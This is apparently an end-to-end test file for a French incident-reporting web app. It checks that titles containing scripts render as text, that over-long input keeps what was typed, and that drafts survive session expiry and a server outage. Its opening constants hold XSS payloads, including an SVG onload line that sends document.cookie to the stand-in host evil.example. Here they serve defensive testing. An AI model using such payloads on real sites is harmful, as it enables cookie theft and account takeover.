// What people type is text, and stays theirs: a title with a script in it, a
// text that is too long, a session that ends and a server that stops while
// somebody is writing.
import { desktop, equal, holds, phone, until } from '../people.mjs'

const mark = Date.now() % 100_000
const attack = `<img src=x onerror=alert(1)><script>alert(${mark})</script>"'\`{{7*7}}`
const words =
  'javascript:alert(1) <svg/onload=fetch("https://evil.example/?"+document.cookie)> https://solane.example/aide'

export async function tell(cast) {
  const sophie = await cast.arrives('Sophie', phone)
  await sophie.signsIn('sophie@solane.example')
  const karim = await cast.arrives('Karim', desktop)
  await karim.signsIn('karim@solane.example')
  // Refusals and a server that is away are what this story is about.
  for (const who of [sophie, karim]) who.excused.push(/Failed to load resource/, /ERR_CONNECTION/, /EventSource/)

  const reference = await textIsText(sophie, karim)
  await tooLong(sophie)
  await sessionOver(karim, reference)
  await serverAway(cast, karim, sophie, reference)
}

async function textIsText(sophie, karim) {
  await sophie.goes('/report')
  await sophie.field(/ne va pas/).fill(attack)
  await sophie.field('Détails').fill(words)
  await sophie.button('Continuer').click()
  await sophie.sees(attack)
  await sophie.button('Envoyer').click()
  await sophie.heading('Nous avons reçu votre signalement').waitFor()
  const [reference] = (await sophie.page.getByText(/Son numéro est/).innerText()).match(/INC-\d+/)
  await sophie.link('Suivre mon signalement').click()
  await sophie.heading(attack).waitFor()
  await sophie.sees('javascript:alert(1)')
  equal(await sophie.page.locator('a[href^="javascript" i]').count(), 0, 'links that run')
  await sophie.goes('/')
  await sophie.page.getByRole('searchbox').fill('onerror')
  await sophie
    .link(/<img src=x onerror/)
    .first()
    .waitFor()

  await karim.goes(`/desk/queue?f=${encodeURIComponent(reference)}`)
  await karim.link(attack).first().click()
  await karim.heading(attack).waitFor()
  await karim.sees('<svg/onload=fetch(')
  await karim.presses('Control+K')
  await karim.page.keyboard.type(reference)
  await karim.page.getByRole('option', { name: new RegExp(reference) }).waitFor()
  await karim.presses('Escape')
  for (const who of [sophie, karim])
    equal(await who.page.locator('img[src="x"], script:not([src]), svg[onload]').count(), 0, 'elements of the attack')
  return reference
}

/** Refused beside its field; what was typed is there to be shortened. */
async function tooLong(sophie) {
  const long = `Très long ${'é'.repeat(400)}`
  await sophie.goes('/report')
  const field = sophie.field(/ne va pas/)
  await field.fill(long)
  await sophie.field('Détails').fill('Court.')
  await sophie.button('Continuer').click()
  await sophie.button('Envoyer').click()
  await until('the field says what is wrong', () =>
    field.evaluate((e) => {
      const told = (e.getAttribute('aria-describedby') ?? '')
        .split(' ')
        .map((id) => document.getElementById(id)?.textContent)
      return e.getAttribute('aria-invalid') === 'true' && told.some((t) => t)
    }),
  )
  equal(await field.inputValue(), long, 'what she typed')
  await sophie.portrait('too-long')
  await field.fill(`Assez court (${mark})`)
  await sophie.button('Continuer').click()
  await sophie.button('Envoyer').click()
  await sophie.heading('Nous avons reçu votre signalement').waitFor()
}

async function sessionOver(karim, reference) {
  const answer = 'Réponse écrite pendant que la session se terminait.'
  await karim.goes(`/desk/incidents/${reference}`)
  const field = karim.page.getByRole('textbox', { name: 'Répondre' })
  await field.fill(answer)
  await karim.page.request.delete('/api/session')
  // His draft, saved on the way, may be what finds out, before he presses.
  const over = karim.dialog('Votre session est terminée')
  await karim
    .button('Envoyer', { exact: true })
    .click({ timeout: 2_000 })
    .catch(() => {}) // it was quicker
  await over.waitFor()
  await karim.portrait('session-over')
  await over.getByLabel(/Identifiant/).fill('karim@solane.example')
  await over.getByLabel('Mot de passe').first().fill(karim.cast.given.password)
  await over.getByRole('button', { name: 'Continuer' }).click()
  await over.waitFor({ state: 'detached' })
  equal(await field.inputValue(), answer, 'what he typed')
  await karim.button('Envoyer', { exact: true }).click()
  await karim.page.getByRole('article').getByText(answer).waitFor()
}

async function serverAway(cast, karim, sophie, reference) {
  const [his, hers] = ['Réponse écrite pendant la panne.', 'Précision écrite pendant la panne.']
  await sophie.goes(`/records/${reference}`)
  const answer = karim.page.getByRole('textbox', { name: 'Répondre' })
  const more = sophie.page.getByRole('textbox').last()
  await answer.fill(his)
  await more.fill(hers)
  await cast.asks('stop')
  await karim.button('Envoyer', { exact: true }).click()
  await sophie.button('Envoyer', { exact: true }).last().click()
  for (const who of [karim, sophie]) {
    await who.sees('Le serveur est injoignable.')
    await who.sees('Votre saisie est gardée.')
  }
  await karim.sees(/Connexion perdue/)
  await karim.portrait('server-away')
  await sophie.portrait('server-away-phone')
  equal(await answer.inputValue(), his, 'what he typed')
  equal(await more.inputValue(), hers, 'what she typed')

  await cast.asks('start')
  await karim.sees('Connecté')
  await karim.button('Envoyer', { exact: true }).click()
  await sophie.button('Envoyer', { exact: true }).last().click()
  for (const text of [his, hers]) {
    await karim.page.getByRole('article').getByText(text).waitFor()
    await sophie.page.getByRole('article').getByText(text).waitFor()
    equal(await karim.page.getByRole('article').getByText(text).count(), 1, `times that ${text} is there`)
  }
  holds((await answer.inputValue()) === '', 'the sent text is still in the field')
}
